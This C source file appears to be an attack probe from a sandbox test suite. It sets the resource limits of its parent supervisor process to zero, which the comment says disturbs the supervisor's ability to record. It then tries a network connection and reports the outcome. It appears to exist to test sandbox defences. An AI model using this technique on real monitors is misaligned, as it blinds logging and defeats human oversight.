/*
 * Acts after having disturbed the supervisor's ability to record: resource limits are set from outside of a process,
 * and no Landlock rule speaks about them.
 * usage: suppress file-size|open-files|memory ADDRESS PORT
 */
#include "attack.h"

#include <sys/resource.h>

int main(int argc, char **argv) {
    if (argc != 4)
        cannot("usage: suppress LIMIT ADDRESS PORT");
    const char *m = argv[1];
    struct target t = target_of(argv[2], argv[3]);
    struct rlimit none = {0, 0};
    int what = strcmp(m, "file-size") == 0    ? RLIMIT_FSIZE
               : strcmp(m, "open-files") == 0 ? RLIMIT_NOFILE
                                              : RLIMIT_AS;
    /* without supervision the parent is the runner, which is none of ours to cripple */
    int rc = unsupervised() ? -1 : prlimit(getppid(), (enum __rlimit_resource)what, &none, NULL), error = errno;
    usleep(50000);
    if (deliver(&t) == 0)
        reached("connected; prlimit of the supervisor: %s", rc == 0 ? "done" : strerror(error));
    stopped("connect: %s; prlimit of the supervisor: %s", strerror(errno), rc == 0 ? "done" : strerror(error));
}
